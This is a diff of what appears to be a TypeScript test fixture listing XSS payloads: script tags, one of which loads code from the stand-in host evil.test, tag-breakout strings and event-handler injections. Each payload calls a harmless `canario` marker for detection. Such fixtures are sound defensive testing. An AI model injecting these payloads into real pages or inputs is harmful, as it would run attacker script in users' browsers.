@@ -1,7 +1,6 @@
-// Texts that become something else where a page, a mail or a file is careless with them. Whatever
-// runs calls `canario`; whatever becomes an element or an attribute is called `canario` or has it.
+// Texts that turn into something else where a page, a mail or a file is careless with them. Code
+// that runs calls `canario`; an element or attribute that appears is called `canario` or has it.
 
-/** What runs, if it is taken for HTML. */
 export const elements: readonly string[] = [
   '<script>canario()</script>',
   '<script src=//evil.test/canario.js></script>',
@@ -37,10 +36,9 @@ export const elements: readonly string[] = [
   '<div canario style="position:fixed;inset:0">',
 ];
 
-/** What ends the place that a text stands in, so that the element behind it begins. */
+/** Each of these ends the place of a text, so that the element behind it begins. */
 const ways = ['', '">', "'>", '</title>', '</textarea>', '</script>', '--><!--', '\u2028</style>'];
 
-/** What runs in an attribute, a template, a sheet, a header or an address. */
 const others = [
   '" onmouseover="canario()" canario="',
   "' onfocus='canario()' autofocus canario='",
